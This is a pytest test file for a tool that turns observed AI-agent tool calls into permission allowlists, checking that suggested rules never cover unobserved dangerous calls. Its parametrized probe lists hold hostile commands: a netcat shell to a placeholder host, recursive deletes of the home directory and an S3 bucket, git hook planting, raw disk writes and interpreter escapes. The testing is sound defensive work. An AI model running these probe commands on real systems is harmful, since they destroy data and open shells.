"""The previous review's findings on ``suggest`` (reports/old/i32-breaks.md, F1–F7), each as
evidence the reviewer used and the unobserved call it showed a suggested plan covering. The
reference is the gate (``check_call`` under the suggested plan) and the prover, never
suggest's own code: every observed call must stay covered or be listed, and the probe must
not be covered.
"""

from __future__ import annotations

import itertools
import json
import random
import re
from collections.abc import Mapping
from pathlib import Path

import pytest
from evidence_calls import copilot_lines, transcript_lines
from evidence_hostile import check, hostile_calls
from examples import examples, seeds
from hypothesis import given, settings
from hypothesis import strategies as st

from skillgrant.evidence.groups import GROUPS
from skillgrant.evidence.levels import Level
from skillgrant.evidence.read import Evidence, Observed, read_evidence
from skillgrant.evidence.suggest import suggest
from skillgrant.gate.call import check_call
from skillgrant.prepared import plan_for
from skillgrant.prover import prove_prepared

CWD = "/w/proj"
NARROW_TO_WIDE: tuple[Level, ...] = ("exact", "command", "directory")


def _evidence(*calls: tuple[str, Mapping[str, object]]) -> Evidence:
    return Evidence([Observed("e", i + 1, tool, dict(tool_input), CWD)
                     for i, (tool, tool_input) in enumerate(calls)])


def _bash(*commands: str) -> Evidence:
    return _evidence(*[("Bash", {"command": c}) for c in commands])


def _covered(entries: list[str], tool: str, tool_input: dict[str, object]) -> bool:
    """``check_call``'s answer; it raises on a link it cannot read (``/proc/1/cwd``, the
    gate's to mend), which the hook answers with a deny: not covered."""
    try:
        return check_call(tool, tool_input, entries, cwd=CWD).covered
    except OSError:
        return False


def _assert_observed_covered_or_listed(found: object, evidence: Evidence) -> None:
    listed = {d.call.key() for d in found.not_suggestible}  # type: ignore[attr-defined]
    for call in evidence.calls:
        if call.key() not in listed:
            assert _covered(found.entries, call.tool, dict(call.tool_input)), call  # type: ignore[attr-defined]


#: F1: programs that run code from their arguments, not on the old deny list, each observed
#: once harmlessly, with the call the old plan then covered.
F1 = [
    ("vim.tiny x", 'vim.tiny -c "!id" -c q'), ("vim.basic x", 'vim.basic -c "!id"'),
    ("tclsh8.6 x", "tclsh8.6 /tmp/x.tcl"),
    ("gdb-multiarch -batch", 'gdb-multiarch -batch -ex "shell id"'),
    ("toybox ls", "toybox sh -c id"), ("zsh-5.9 -c true", "zsh-5.9 -c id"),
    ("gawk5 1", 'gawk5 "BEGIN{system(\\"id\\")}"'), ("awk.exe 1", "awk.exe 'BEGIN{system(1)}'"),
    ("AWK 1", "AWK 'BEGIN{system(1)}'"), ("sed4 p", "sed4 e"), ("jruby x.rb", "jruby -e 1"),
    ("emacsclient -n x", 'emacsclient --eval "(shell-command \\"id\\")"'),
    ("git-shell -c true", 'git-shell -c "git-upload-pack x"'), ("ash x", 'ash -c "rm -rf ~"'),
    ("nu x", "nu -c id"), ("py x", 'py -c "import os"'), ("ipython x", "ipython -c 1"),
    ("ts-node a.ts", "ts-node /tmp/e.ts"), ("tsx a.ts", "tsx /tmp/e.ts"),
    ("sqlite3 db .tables", 'sqlite3 :memory: ".shell id"'), ("psql -l", 'psql -c "\\! id"'),
    ("rg --files", "rg --pre /tmp/x --files"), ("fzf -f x", "fzf -f x --preview id"),
    ("cmake --version", "cmake -P /tmp/x.cmake"), ("gcc a.c", "gcc -wrapper /tmp/x a.c"),
    ("crontab -l", "crontab /tmp/tab"), ("at -l", "at -f /tmp/s now"),
    ("direnv status", "direnv exec . sh"), ("nix-shell -p jq", "nix-shell --run id"),
    ("opam list", "opam exec -- sh -c id"), ("xcrun --show-sdk-path", "xcrun sh -c id"),
    ("nc.openbsd -h", "nc.openbsd -e sh h 1"), ("perl-5 x", "perl-5 -e 1"),
    ("ls.exe x", "ls.exe y"), ("LS x", "LS y"), ("pre-commit run", "pre-commit try-repo /tmp/x"),
]
#: F2: subcommands that run code, and `run` with no script.
F2 = [
    ("npm run", "npm run evil"), ("yarn run", "yarn run evil"), ("pnpm run", "pnpm run evil"),
    ("bun run", "bun run /tmp/evil.ts"), ("dart run", "dart run /tmp/e.dart"),
    ("swift run", "swift run --repl"), ("mix run", 'mix run -e "System.cmd(1)"'),
    ("rustup run stable cargo build", "rustup run stable sh -c id"),
    ("uv pip list", "uv pip install /tmp/evilpkg"),
    ("apt-get install jq", "apt-get install ./evil.deb"),
    ("composer exec phpunit", "composer exec -- sh"), ("git hook list", "git hook run pre-commit"),
    ("go mod tidy", "go mod download"), ("mvn test", "mvn test exec:exec -Dexec.executable=sh"),
    ("gradle build", "gradle build --init-script /tmp/e.gradle"),
    ("pytest -q", "pytest -p evilplugin"),
    ("npm test", "npm test --script-shell=/tmp/evil"), ("heroku run bash", "heroku run bash -c id"),
    ("git log -5", "git log --output=/w/proj/.git/hooks/pre-commit"),
]
#: F3: a flag (or a glob) before the second level of a two-level program.
F3 = [
    ("gh pr -R o/r list", "gh pr merge 1 --admin"), ("gh pr 'li*'", "gh pr close 1"),
    ("aws s3 --region eu ls", "aws s3 rm s3://b --recursive"),
    ("gcloud compute -q instances list", "gcloud compute ssh vm --command id"),
]


@pytest.mark.parametrize(("observed", "probe"), F1 + F2 + F3,
                         ids=[o for o, _ in F1 + F2 + F3])
@pytest.mark.parametrize("level", NARROW_TO_WIDE[1:])
def test_f1_f2_f3_no_group_reaches_an_unobserved_call(observed: str, probe: str,
                                                      level: Level) -> None:
    evidence = _bash(observed)
    found = suggest(evidence, level)
    assert not any("*" in e for e in found.entries), found.entries
    _assert_observed_covered_or_listed(found, evidence)
    assert not _covered(found.entries, "Bash", {"command": probe}), (found.entries, probe)


def test_f1_f3_from_copilot_events(tmp_path: Path) -> None:
    events = tmp_path / "events.jsonl"
    events.write_text(copilot_lines([("bash", {"command": "vim.tiny x"}),
                                     ("bash", {"command": "gh pr -R o/r list"})], cwd=CWD))
    found = suggest(read_evidence([str(events)]))
    assert found.entries == ["Bash(gh pr -R o/r list)", "Bash(vim.tiny x)"]


@pytest.mark.parametrize(("tool", "tool_input", "wide"), [
    ("Bash", {"command": "ls > /"}, "Edit(//)"),
    ("Bash", {"command": "ls > /etc/"}, "Edit(//etc)"),
    ("Read", {"file_path": "/w/proj/sub/"}, "Read(//w/proj/sub)"),
    ("Grep", {"pattern": "x", "path": "/"}, "Read(//**)"),
    ("Write", {"file_path": "/home/u"}, "Edit(//home/u)"),
])
@pytest.mark.parametrize("level", NARROW_TO_WIDE)
def test_f4_no_entry_names_the_root_a_home_or_a_directory(tool: str, tool_input: dict[str, object],
                                                          wide: str, level: Level) -> None:
    found = suggest(_evidence((tool, tool_input)), level)
    assert wide not in found.entries and not found.entries, found.entries
    (listed,) = found.not_suggestible
    assert listed.why


def test_f4_a_home_or_the_root_is_never_a_directory_group() -> None:
    evidence = _evidence(("Write", {"file_path": "/home/u/.bashrc"}),
                         ("Read", {"file_path": "/etc.txt"}), ("Read", {"file_path": "/root/x.c"}))
    found = suggest(evidence, "directory")
    assert found.entries == ["Edit(//home/u/.bashrc)", "Read(//etc.txt)", "Read(//root/x.c)"]
    assert not _covered(found.entries, "Edit", {"file_path": "/home/u/.ssh/authorized_keys"})


#: F5 and F6: the reviewer's mix (names.jsonl-like), with substitutions and expansions.
F5 = ["git log -5", "ls", "npm test", "cat src/a.py docs/x.md README.md", "read x",
      "printf -v x id", "ls -la", "gh pr list", "gh pr list -L 5", "echo hi", "touch a b",
      "git status", "git status -s", "ls > out.txt", "cat a.txt | wc -l"]
F6 = ["echo $(id)", "git log $(id)", "ls {a,b}", "echo ${X:-$(id)}", "ls $X", "ls *"]


def test_f5_exact_within_command_within_directory_by_the_prover() -> None:
    evidence = _bash(*F5, *F6)
    plans = [suggest(evidence, level).entries for level in NARROW_TO_WIDE]
    for narrow, wide in itertools.pairwise(plans):
        for entry in narrow:
            # The gate's reading (the plan's own vocabulary: no runtime approves a rule whole).
            assert prove_prepared(entry, plan_for(list(wide), None, None)).covered, (entry, wide)
    assert len(plans[1]) < len(set(F5))


@pytest.mark.parametrize("level", NARROW_TO_WIDE)
def test_f6_expansions_are_listed_not_covered(level: Level) -> None:
    found = suggest(_bash(*F6), level)
    assert found.entries == [] and len(found.not_suggestible) == len(F6), found.entries


def test_f7_a_deep_path_covered_at_exact_stays_covered_at_directory() -> None:
    deep = {"file_path": "/w/proj/" + "/".join(["d"] * 3000) + "/f.py"}
    evidence = _evidence(("Read", deep), ("Bash", {"command": "echo " + "x" * 5000}))
    covered = []
    for level in NARROW_TO_WIDE:
        found = suggest(evidence, level)
        covered.append({c.key() for c in evidence.calls
                        if _covered(found.entries, c.tool, dict(c.tool_input))})
    assert covered[0] and covered[0] <= covered[1] <= covered[2]


# --- the table, and hostile evidence ---------------------------------------------------------

def test_the_table_is_plain_words_no_key_a_prefix_of_another_and_lint_finds_none_broad() -> None:
    """A shorter key would reach a longer one's siblings (``gh pr *`` over ``gh pr merge``)."""
    from skillgrant.review.lint import lint_entries

    for key, why in GROUPS.items():
        assert why and all(re.fullmatch(r"[a-z][a-z0-9-]*", word) for word in key), key
        assert not any(other != key and other[:len(key)] == key for other in GROUPS), key
        entry = f"Bash({' '.join(key)} *)"
        assert not [f for f in lint_entries([entry])
                    if f.category == "over-broad" or f.severity == "error"], entry


def test_the_docs_list_the_table() -> None:
    page = (Path(__file__).parents[1] / "docs" / "plans-from-evidence.md").read_text()
    table = page.split("| key | why no argument after it can name code to run |", 1)[1]
    table = table.split("\n\n", 1)[0]
    listed = set(re.findall(r"^\| `([a-z][a-z0-9 -]*)` \|", table, re.MULTILINE))
    assert listed == {" ".join(key) for key in GROUPS}


@pytest.mark.parametrize("seed", seeds(3))
def test_hostile_evidence_no_group_covers_what_the_table_does_not_vouch_for(seed: int) -> None:
    counts, violations = check(4, seed)
    assert not violations, violations[:5]
    assert counts["grouped entries"] and counts["probes covered"]  # the probes reach groups


@settings(max_examples=examples(100), deadline=None)
@given(st.integers(0, 10_000), st.integers(1, 25), st.integers(1, 25))
def test_on_hostile_evidence_the_levels_nest_and_more_calls_cover_more(seed: int, first: int,
                                                                       more: int) -> None:
    """exact ⊆ command ⊆ directory by the prover (Claude Code's reading), and adding calls
    never removes a covered call (check_call), on the generator's hostile evidence."""
    calls = hostile_calls(first + more, random.Random(seed))
    small, large = _evidence(*calls[:first]), _evidence(*calls)
    plans = [suggest(large, level).entries for level in NARROW_TO_WIDE]
    for narrow, wide in itertools.pairwise(plans):
        for entry in narrow:
            # The gate's reading (the plan's own vocabulary: no runtime approves a rule whole).
            assert prove_prepared(entry, plan_for(list(wide), None, None)).covered, (entry, wide)
    for level in NARROW_TO_WIDE:
        before, after = suggest(small, level).entries, suggest(large, level).entries
        for call in small.calls:
            if _covered(before, call.tool, dict(call.tool_input)):
                assert _covered(after, call.tool, dict(call.tool_input)), (level, call)


# --- this session's review (reports/i32-breaks.md, B1-B4) -------------------------------------

def test_b1_a_path_the_gate_cannot_resolve_is_not_suggestible_and_the_rest_is() -> None:
    evidence = _evidence(("Read", {"file_path": "/proc/1/cwd/x"}), ("Bash", {"command": "ls"}))
    found = suggest(evidence, "command")
    assert found.entries == ["Bash(ls *)"]
    assert [d.call.tool_input for d in found.not_suggestible] == [{"file_path": "/proc/1/cwd/x"}]


@pytest.mark.parametrize("path", ["/dev/fd/3/x", "/dev/stdin", "/proc/self/cwd/a.py",
                                  "/proc/self/root/home/u/.bashrc", "/dev/sda"])
@pytest.mark.parametrize("level", NARROW_TO_WIDE)
def test_b2_no_entry_depends_on_the_process_that_suggests(path: str, level: Level) -> None:
    found = suggest(_evidence(("Read", {"file_path": path})), level)
    assert found.entries == [] and len(found.not_suggestible) == 1


@pytest.mark.parametrize("path", [
    "/users/u/.zshrc", "/USERS/u/.zshrc", "/System/Volumes/Data/Users/u/.zshrc",
    "/var/root/.profile", "/private/var/root/.profile", "/usr/home/u/.profile",
    "/export/home/u/.profile", "/mnt/c/Users/u/.bashrc", "/var/lib/jenkins/.bashrc",
    "/data/data/com.termux/files/home/.bashrc", "/tmp/x/y.txt", "/w/proj/README.md",
    "/w/proj/sub/.git/description.txt", "/w/proj/.claude/settings.json", "/w/proj/src/a.py",
    "/w/proj/users/u/x.txt"])
def test_b3_b4_directory_groups_only_inside_the_project_never_a_home_or_git(path: str) -> None:
    found = suggest(_evidence(("Write", {"file_path": path})), "directory")
    assert found.entries == [f"Edit(/{path})"], found.entries  # a write stays exact (B4b, B13)
    found = suggest(_evidence(("Read", {"file_path": path})), "directory")
    assert found.entries == [f"Read(/{path})"] or path == "/w/proj/src/a.py", found.entries


@pytest.mark.parametrize(("cwd", "path"), [("/w/proj", "/w/proj/src/a.py"),
                                           ("/", "/usr/local/bin/x.sh"),
                                           ("/home/u", "/home/u/.local/bin/x.sh")])
def test_b4b_b13_writes_are_never_grouped_and_a_session_at_the_root_or_home_groups_nothing(
        cwd: str, path: str) -> None:
    for tool in ("Write", "Read"):
        found = suggest(Evidence([Observed("e", 1, tool, {"file_path": path}, cwd)]),
                        "directory")
        grouped = found.entries[0].endswith("/**)")
        assert grouped == (tool == "Read" and cwd == "/w/proj"), found.entries


def test_b4_an_edit_in_the_project_root_and_git_status_do_not_reach_git_config() -> None:
    evidence = _evidence(("Edit", {"file_path": "/w/proj/README.md", "old_string": "a",
                                   "new_string": "b"}),
                         ("Bash", {"command": "git status"}),
                         ("Write", {"file_path": "/w/proj/src/a.py", "content": ""}),
                         ("Read", {"file_path": "/w/proj/src/b.py"}))
    found = suggest(evidence, "directory")
    assert "Read(//w/proj/src/**)" in found.entries and "Edit(//w/proj/src/a.py)" in found.entries
    for tool, path in [("Edit", "/w/proj/.git/config"), ("Write", "/w/proj/.git/hooks/x")]:
        assert not _covered(found.entries, tool, {"file_path": path, "content": ""}), path


def test_b5_a_lone_surrogate_is_skipped_and_the_rest_suggested(tmp_path: Path) -> None:
    log = tmp_path / "s.jsonl"
    line = ('{"type":"assistant","cwd":"/w/proj","message":{"role":"assistant","content":'
            '[{"type":"tool_use","id":"t%d","name":"%s","input":%s}]}}\n')
    log.write_text(line % (1, "Read", '{"file_path": "/w/proj/\\udc80x"}')
                   + line % (2, "Skill", '{"skill": "a\\ud800"}')
                   + line % (3, "Bash", '{"command": "ls"}'))
    evidence = read_evidence([str(log)])
    assert [s.line for s in evidence.skipped] == [1, 2]
    assert suggest(evidence).entries == ["Bash(ls *)"]


@pytest.mark.parametrize("tool", ["write_bash", "write_powershell", "str_replace_editor",
                                  "write_stdin", "read_bash", "EnterWorktree", "task"])
@pytest.mark.parametrize("level", NARROW_TO_WIDE)
def test_b6_a_tool_judged_by_name_alone_is_bare_only_when_reviewed(tool: str,
                                                                   level: Level) -> None:
    evidence = _evidence((tool, {"shellId": "s1", "input": "y\n"}), ("TodoWrite", {}))
    found = suggest(evidence, level)
    assert found.entries == ["TodoWrite"]
    assert not _covered(found.entries, tool, {"shellId": "1", "input": "rm -rf ~\n"})


def test_b7_a_plan_over_the_file_limit_is_an_error_not_a_plan() -> None:
    from skillgrant.evidence.suggest import SuggestError

    evidence = _bash(*[f"printf %s {i:03d}{'x' * 7000}" for i in range(160)])
    with pytest.raises(SuggestError, match="MAX_FILE_BYTES"):
        suggest(evidence, "exact")


@pytest.mark.parametrize("command", ["ls > /dev/tty", "ls > /dev/fd/2",
                                     "echo x > /dev/shm/x", "head -c 8 < /dev/urandom",
                                     "cat /sys/x > /sys/class/x"])
def test_b8_no_device_or_process_file_is_named_or_grouped(command: str) -> None:
    found = suggest(_bash(command), "directory")
    assert not [e for e in found.entries if "//dev" in e or "//sys" in e or "//proc" in e]
    for probe in ("echo x > /dev/sda", "cat a.py > /dev/nvme0n1"):
        assert not _covered(found.entries, "Bash", {"command": probe})


@pytest.mark.parametrize("path", ["/w/proj", "/w", "/w/proj/."])
def test_the_session_directory_or_above_is_never_a_file_entry(path: str) -> None:
    found = suggest(_evidence(("Read", {"file_path": path})), "exact")
    assert found.entries == []


def test_the_docs_list_the_tools_named_alone() -> None:
    from skillgrant.evidence.groups import NAMED_ALONE

    page = (Path(__file__).parents[1] / "docs" / "plans-from-evidence.md").read_text()
    paragraph = page.split("**A tool judged by its name alone is bare only when reviewed.**")[1]
    paragraph = paragraph.split("- **", 1)[0]
    listed = paragraph.split("no file written):")[1].split("Any other")[0]
    assert set(re.findall(r"`(\w+)`", listed)) == set(NAMED_ALONE)


def test_b15_a_character_beyond_the_bmp_reads_back_from_the_plan_file(tmp_path: Path) -> None:
    from skillgrant import Plan
    from skillgrant.reports.suggest import plan_text

    evidence = _evidence(("Bash", {"command": "git commit -m 'feat: launch \U0001f680'"}),
                         ("Read", {"file_path": "/w/proj/a\U0001f600b.py"}),
                         ("Bash", {"command": "ls"}))
    found = suggest(evidence, "exact")
    assert len(found.entries) == 3
    assert list(Plan.from_text(plan_text(found, ["e"])).allowed_tools) == found.entries


def test_b5b_raw_surrogate_bytes_are_skipped(tmp_path: Path) -> None:
    log = tmp_path / "raw.jsonl"
    line = ('{"type":"assistant","cwd":"/w/proj","message":{"role":"assistant","content":'
            '[{"type":"tool_use","id":"t","name":"Read","input":{"file_path":"/w/proj/a')
    log.write_bytes(line.encode() + b"\xed\xa0\x80" + b'b.py"}}]}}\n'
                    + transcript_lines([("Bash", {"command": "ls"})], cwd=CWD).encode())
    evidence = read_evidence([str(log)])
    assert [s.line for s in evidence.skipped] == [1] and len(evidence.calls) == 1


@pytest.mark.parametrize("first", [
    {"type": "file-history-snapshot", "messageId": "init", "snapshot": {}},
    {"type": "last-prompt", "leafUuid": "y"}])
def test_b16_an_interactive_transcript_may_lead_with_metadata(tmp_path: Path,
                                                              first: dict[str, object]) -> None:
    log = tmp_path / "t.jsonl"
    ls = transcript_lines([("Bash", {"command": "ls"})], cwd=CWD)
    log.write_text(json.dumps(first) + "\n" + ls)
    assert suggest(read_evidence([str(log)])).entries == ["Bash(ls *)"]



@pytest.mark.parametrize(("url", "entry"), [
    ("http://127.1/", None), ("http://0x7f.1/", None), ("http://2130706433/", None),
    ("http://127.0.0.1:8080/x", "WebFetch(domain:127.0.0.1)"),
    ("https://Docs.Python.org/3/", "WebFetch(domain:docs.python.org)")])
def test_b11_an_address_in_shorthand_is_not_suggested(url: str, entry: str | None) -> None:
    found = suggest(_evidence(("WebFetch", {"url": url, "prompt": "p"})), "command")
    assert found.entries == ([entry] if entry else [])


@pytest.mark.parametrize(("command", "entry"), [
    ("touch 'zz'", "Bash(touch 'zz')"), ('git commit -m "a b"', 'Bash(git commit -m "a b")'),
    ("git log -1", "Bash(git log -1)"), ("FOO=1 git log", "Bash(FOO=1 git log)")])
def test_b12_an_exact_entry_is_the_command_as_written(command: str, entry: str) -> None:
    assert suggest(_bash(command), "exact").entries == [entry]


def test_b9_b18_an_extensionless_read_may_be_a_directory_a_write_was_a_file() -> None:
    evidence = _evidence(("Read", {"file_path": "/w/proj/src"}),
                         ("Write", {"file_path": "/w/proj/bin/setup", "content": ""}),
                         ("Read", {"file_path": "/etc/hosts"}))
    found = suggest(evidence, "exact")
    assert found.entries == ["Edit(//w/proj/bin/setup)", "Read(//etc/hosts)"]
    assert [d.call.tool_input for d in found.not_suggestible] == [{"file_path": "/w/proj/src"}]
